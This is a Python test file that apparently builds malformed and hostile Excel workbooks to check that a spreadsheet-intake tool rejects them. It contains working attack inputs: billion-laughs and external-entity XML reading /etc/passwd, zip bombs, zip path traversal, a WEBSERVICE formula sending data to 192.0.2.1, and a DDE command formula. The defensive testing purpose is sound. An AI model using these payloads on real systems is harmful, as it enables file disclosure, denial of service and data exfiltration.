"""Workbooks that are none, swell, call out, or hold in their cells what no table may hold."""

import os
import struct
from collections.abc import Callable
from functools import cache

from bad_packs.case import NOWHERE, Case, Ground
from bad_packs.kinds.ids import IDS
from bad_packs.workbook import (
    HEAD,
    ROW,
    SPACES,
    TOP,
    TYPES,
    book,
    cell,
    check_book,
    pack,
    parts_of,
    raw_sheet,
    sheet,
)
from bahali.intake.template.content import read_content
from bahali.intake.template.workbook import write_template

MEGABYTE = 1_000_000
INCLUDED = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


def bad(name: str, make: bytes | Callable[[], bytes], *told: str) -> Case:
    return Case(name, check_book(make), ("book.xlsx", *told))


def part(name: str, content: str | bytes) -> bytes:
    """Write a sound workbook with one part replaced or added."""
    return pack(parts_of({"gaps": sheet()}) | {name: content})


def without(name: str) -> bytes:
    parts = parts_of({"gaps": sheet()})
    del parts[name]
    return pack(parts)


def gap(**cells: str) -> bytes:
    """Write a workbook with one gap, some of its cells changed."""
    return book(sheet((HEAD, [cells.get(name, value) for name, value in zip(HEAD, ROW, strict=True)])))


def in_row(xml: str) -> bytes:
    """Write a workbook whose second row is XML as given."""
    return book(raw_sheet(f'<row r="2">{xml}</row>'))


def patch(content: bytes, offset: int, value: bytes) -> bytes:
    """Change bytes of the first entry of the list of parts."""
    place = content.index(b"PK\x01\x02") + offset
    return content[:place] + value + content[place + len(value) :]


def shared(count: int) -> str:
    return f"<sst {SPACES}>{'<si><t>x</t></si>' * count}</sst>"


def with_shared(strings: str, index: str) -> bytes:
    parts = parts_of({"gaps": raw_sheet(f'<row><c t="s"><v>{index}</v></c></row>')})
    links = str(parts["xl/_rels/workbook.xml.rels"])
    link = f'<Relationship Id="rId9" Type="{SHARED}" Target="sharedStrings.xml"/></Relationships>'
    parts["xl/_rels/workbook.xml.rels"] = links.replace("</Relationships>", link)
    return pack(parts | {"xl/sharedStrings.xml": strings})


SHARED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
STYLES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"


def with_styles(styles: str) -> bytes:
    parts = parts_of({"gaps": raw_sheet('<row><c s="1"><v>45000</v></c></row>')})
    links = str(parts["xl/_rels/workbook.xml.rels"])
    link = f'<Relationship Id="rId8" Type="{STYLES}" Target="styles.xml"/></Relationships>'
    parts["xl/_rels/workbook.xml.rels"] = links.replace("</Relationships>", link)
    return pack(parts | {"xl/styles.xml": styles})


def linked_to(target: str, mode: str = "") -> bytes:
    """Let the sheet lie at another place than usual."""
    parts = parts_of({"gaps": sheet()})
    links = str(parts["xl/_rels/workbook.xml.rels"])
    parts["xl/_rels/workbook.xml.rels"] = links.replace(
        'Target="worksheets/sheet1.xml"', f'Target="{target}" {mode}'
    )
    return pack(parts)


@cache
def filled() -> bytes:
    """Give the workbook of nowhere as the template writes it."""
    return write_template(read_content(NOWHERE))


def rows(count: int, xml: str) -> Callable[[], bytes]:
    return lambda: book(raw_sheet(xml * count))


def named(name: str, content: bytes) -> Callable[[Ground], list[str]]:
    def change(ground: Ground) -> list[str]:
        (ground.project / name).write_bytes(content)
        return ["check", name]

    return change


def linked(ground: Ground) -> list[str]:
    (ground.project / "book.xlsx").symlink_to("../outside/note.txt")
    return ["check", "book.xlsx"]


def pipe(ground: Ground) -> list[str]:
    os.mkfifo(ground.project / "book.xlsx")
    return ["check", "book.xlsx"]


CASES = [
    bad("nothing", b""),
    bad("zero bytes", bytes(1000)),
    bad("words", b"hello", "no workbook"),
    bad("a CSV", b"gap_id,statement\nG-CN-01,x\n", "no workbook"),
    bad("HTML", b"<html><table><tr><td>gap_id</td></tr></table></html>", "no workbook"),
    bad("an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), ".xls"),
    bad(
        "a locked workbook",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + bytes(500),
        "password",
    ),
    bad(
        "an OpenDocument sheet",
        pack({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}),
        "OpenDocument",
    ),
    bad("a binary workbook", pack({"[Content_Types].xml": TYPES, "xl/workbook.bin": b"\0"}), "xlsb"),
    bad("a Word file", pack({"[Content_Types].xml": TYPES, "word/document.xml": "<x/>"})),
    bad("an empty zip", b"PK\x05\x06" + bytes(18)),
    bad("a head alone", b"PK\x03\x04"),
    bad("half a workbook", book()[: len(book()) // 2], "damaged"),
    bad("a workbook without its end", book()[:-22], "damaged"),
    bad("a workbook with other bytes inside", book()[:60] + bytes(40) + book()[100:]),
    *(bad(f"no {name}", without(name)) for name in parts_of({"gaps": sheet()})),
    *(
        bad(f"{name} that is no XML", part(name, "hello"))
        for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml")
    ),
    *(
        bad(f"{name} with a billion laughs", part(name, f"{DTD}]><x>&i;</x>"))
        for name in (
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/worksheets/sheet1.xml",
            "[Content_Types].xml",
        )
        if name[0] == "x"
    ),
    bad(
        "an outside entity in a sheet",
        part(
            "xl/worksheets/sheet1.xml",
            f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>{sheet((HEAD, ["&a;"]))}',
        ),
        "definitions",
    ),
    bad(
        "an outside DTD",
        part("xl/worksheets/sheet1.xml", f'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">{sheet()}'),
        "definitions",
    ),
    bad(
        "a parameter entity",
        part(
            "xl/worksheets/sheet1.xml",
            f'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]>{sheet()}',
        ),
        "definitions",
    ),
    bad(
        "an XInclude",
        part(
            "xl/worksheets/sheet1.xml",
            sheet((HEAD,), f'<row><c t="inlineStr"><is><t>{INCLUDED}</t></is></c></row>'),
        ),
    ),
    bad(
        "entities in shared words",
        with_shared(f"{DTD}]><sst {SPACES}><si><t>&i;</t></si></sst>", "0"),
        "definitions",
    ),
    bad("a zip bomb in a sheet", lambda: part("xl/worksheets/sheet1.xml", b" " * 400 * MEGABYTE)),
    bad(
        "a zip bomb in shared words",
        lambda: with_shared(f"<sst {SPACES}><si><t>{'x' * 300 * MEGABYTE}</t></si></sst>", "0"),
    ),
    bad(
        "a zip bomb in a picture",
        lambda: part("xl/media/image1.png", bytes(300 * MEGABYTE)),
        "200 MB",
    ),
    bad("a size that lies, small", patch(book(), 24, struct.pack("<L", 1))),
    bad("a size that lies, large", patch(book(), 24, struct.pack("<L", 2**32 - 2))),
    bad("a packed size that lies", patch(book(), 20, struct.pack("<L", 2**31))),
    bad("a place that lies", patch(book(), 42, struct.pack("<L", 2**31))),
    bad("parts that overlap", patch(book(), 42, struct.pack("<L", 1))),
    bad("a part that is locked", patch(book(), 8, b"\x01\x00"), "password"),
    bad("a part packed in another way", patch(book(), 10, struct.pack("<H", 14)), "packed"),
    bad("a comment of the whole zip", book()[:-2] + struct.pack("<H", 60_000) + b"PK\x05\x06" * 15_000),
    bad(
        "five thousand parts",
        lambda: pack(parts_of({"gaps": sheet()}) | {f"x/{n}": b"" for n in range(5000)}),
        "limit",
    ),
    bad("a part two folders up", part("../../outside/note.txt", "x"), "sheet workshop"),
    bad("a part by its whole path", part("/etc/passwd", "x"), "sheet workshop"),
    bad("a sheet that lies two folders up", linked_to("../../../../outside/note.txt")),
    bad("a sheet that lies in a file", linked_to("file:///etc/passwd", 'TargetMode="External"')),
    bad("a sheet that lies on the web", linked_to("http://192.0.2.1/sheet.xml", 'TargetMode="External"')),
    bad("a sheet that lies in the list of sheets", linked_to("workbook.xml")),
    bad("a sheet that lies in nothing", linked_to("")),
    bad("a macro", part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(100)), "sheet workshop"),
    bad("an outside link", part("xl/externalLinks/externalLink1.xml", "<x/>"), "sheet workshop"),
    bad("a workbook that is another", part("_rels/.rels", TOP.replace("xl/workbook.xml", "../x.xml"))),
    bad("two million rows", rows(2_000_000, "<row/>")),
    bad("a million rows of a cell", rows(1_000_000, "<row><c><v>1</v></c></row>")),
    bad("two hundred thousand rows of words", rows(200_000, f"<row>{cell('x')}</row>")),
    bad("a row of sixteen thousand cells", in_row("<c><v>1</v></c>" * 16_384), "gaps", "GS2"),
    bad("sixteen thousand headings", book(sheet([[f"c{n}" for n in range(16_384)]])), "gaps"),
    bad("a row above all rows", book(raw_sheet(f'<row r="99999999999">{cell("x")}</row>')), "gaps"),
    bad("a row below all rows", book(raw_sheet(f'<row r="-5">{cell("x")}</row>')), "gaps"),
    bad("a row of words", book(raw_sheet(f'<row r="two">{cell("x")}</row>')), "gaps"),
    bad("the last row of all", book(raw_sheet(f'<row r="1048576">{cell("x")}</row>')), "gaps", "A1048576"),
    bad("a cell above all columns", in_row('<c r="ZZZZZZZ2"><v>1</v></c>'), "gaps"),
    bad("a cell of another row", in_row('<c r="A7"><v>1</v></c>'), "gaps"),
    bad("a cell of no place", in_row('<c r="!"><v>1</v></c>'), "gaps"),
    bad(
        "rows backwards",
        book(raw_sheet(f'<row r="5">{cell("G-CN-05")}</row><row r="3">{cell("G-CN-03")}</row>')),
        "gaps",
    ),
    bad(
        "one row twice",
        book(raw_sheet(f'<row r="2">{cell("G-CN-05")}</row><row r="2">{cell("G-CN-03")}</row>')),
        "gaps",
    ),
    bad("a cell of a hundred thousand signs", gap(statement="x" * 100_000), "gaps"),
    bad("a cell of twenty megabytes", lambda: gap(statement="x" * 20 * MEGABYTE)),
    bad("a million shared words", lambda: with_shared(shared(1_000_000), "0")),
    bad("a shared word that is not there", with_shared(shared(1), "99"), "gaps"),
    bad("a shared word below all", with_shared(shared(1), "-1"), "gaps", "row 2"),
    bad("a shared word of words", with_shared(shared(1), "two"), "gaps"),
    bad(
        "styles without an end",
        lambda: with_styles(
            f"<styleSheet {SPACES}><cellXfs>" + '<xf numFmtId="14"/>' * 1_000_000 + "</cellXfs></styleSheet>"
        ),
    ),
    bad(
        "a form of numbers without an end",
        with_styles(
            f"<styleSheet {SPACES}>"
            f'<numFmts><numFmt numFmtId="170" formatCode="{"yyyy" * 50_000}"/></numFmts>'
            '<cellXfs><xf/><xf numFmtId="170"/></cellXfs></styleSheet>'
        ),
        "gaps",
    ),
    bad("elements a hundred thousand deep", book(raw_sheet("<row>" * 100_000 + "</row>" * 100_000))),
    bad("an attribute of a megabyte", in_row(f'<c x="{"y" * MEGABYTE}"><v>1</v></c>'), "gaps"),
    bad("a thousand sheets", lambda: pack(parts_of({f"s{n}": "<worksheet/>" for n in range(900)}))),
    bad("one sheet twice", pack(parts_of({"gaps": sheet(), "Gaps ": sheet()})), "twice"),
    bad(
        "a sheet of a script",
        pack(parts_of({"<script>": sheet(), "gaps": sheet()})),
        "sheet <script>",
        "was not read",
    ),
    bad(
        "a sheet of a path",
        pack(parts_of({"../../x": sheet(), "gaps": sheet()})),
        "sheet ../../x",
        "was not read",
    ),
    bad(
        "a sheet turned round",
        pack(parts_of({"\u202espag": sheet(), "gaps": sheet()})),
        "U+202E",
        "was not read",
    ),
    bad("a cell of an error", in_row('<c t="e"><v>#REF!</v></c>'), "gaps", "row 2"),
    bad("a formula without a value", in_row("<c><f>1+1</f></c>"), "gaps", "row 2"),
    bad(
        "a formula that calls out",
        in_row('<c t="str"><f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f><v>G-CN-01</v></c>'),
        "gaps",
    ),
    bad("a formula of DDE", in_row("<c t=\"str\"><f>cmd|' /C calc'!A0</f><v>G-CN-01</v></c>"), "gaps"),
    bad("a number that is none", in_row("<c><v>NaN</v></c>"), "gaps", "row 2"),
    bad("a number without an end", in_row(f"<c><v>{'9' * 5000}</v></c>"), "gaps", "row 2"),
    bad("a huge power", in_row("<c><v>1e999999</v></c>"), "gaps", "row 2"),
    bad("a kind nobody knows", in_row('<c t="zz"><v>1</v></c>'), "gaps", "row 2"),
    bad(
        "a day without an end",
        with_styles(f'<styleSheet {SPACES}><cellXfs><xf/><xf numFmtId="14"/></cellXfs></styleSheet>').replace(
            b"45000", b"99999"
        ),
        "book",
    ),
    bad("a zero byte", in_row("<c><v>\0</v></c>"), "damaged"),
    bad("a lone surrogate", in_row("<c><v>&#xD800;</v></c>"), "damaged"),
    bad("a lone surrogate as Excel writes signs", gap(statement="a_xD800_b"), "sheet workshop"),
    bad("a control sign as Excel writes signs", gap(gap_id="a_x0000_b_x001B_"), "gaps", "row 2", "gap_id"),
    bad(
        "UTF-16 that says UTF-8",
        part("xl/worksheets/sheet1.xml", f"<?xml version='1.0' encoding='UTF-8'?>{sheet()}".encode("utf-16")),
    ),
    bad(
        "an encoding nobody knows",
        part("xl/worksheets/sheet1.xml", f"<?xml version='1.0' encoding='x-evil'?>{sheet()}"),
    ),
    bad(
        "merged cells without an end",
        book(
            sheet().replace(
                "</worksheet>", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
            )
        ),
        "gaps",
    ),
    bad(
        "a million merged cells",
        lambda: book(
            sheet().replace(
                "</worksheet>",
                "<mergeCells>" + '<mergeCell ref="A2:B2"/>' * 300_000 + "</mergeCells></worksheet>",
            )
        ),
    ),
    bad(
        "merged cells of no place",
        book(sheet().replace("</worksheet>", '<mergeCells><mergeCell ref="!:!"/></mergeCells></worksheet>')),
        "gaps",
    ),
    *(
        bad(f"{name}, as an id in a sheet", gap(gap_id=text), "gaps", "row 2", "gap_id")
        for name, text in list(IDS.items())[::3]
        if text.isprintable() and "ＣＮ" not in text
    ),
    Case("a filled workbook, whole", check_book(filled), codes=(0,)),
    Case("a filled workbook, cut off", check_book(lambda: filled()[:-5000]), ("book.xlsx", "damaged")),
    Case("a workbook named as a CSV", named("book.csv", book()), ("book.csv",)),
    Case("a workbook named as an old one", named("book.xls", book()), ("book.xls",)),
    Case("a CSV named as a workbook", named("gaps.xlsx", b"gap_id\n"), ("gaps.xlsx", "no workbook")),
    Case("a workbook of a name in colours", named("\x1b[31mbook.xlsx", book()), ("book.xlsx",)),
    Case("a workbook that is a link to a secret", linked, ("book.xlsx",)),
    Case("a workbook that is a pipe", pipe, ("book.xlsx",)),
    Case(
        "a marked copy of what is no workbook", check_book(b"hello", "--mark"), ("book.xlsx", "no workbook")
    ),
    Case(
        "a marked copy over another file",
        check_book(book(), "--mark", "--to", "../outside/note.txt"),
        ("note.txt",),
    ),
    Case("a marked copy of a folder", lambda _: ["check", "parameters/nowhere-2030", "--mark"]),
]
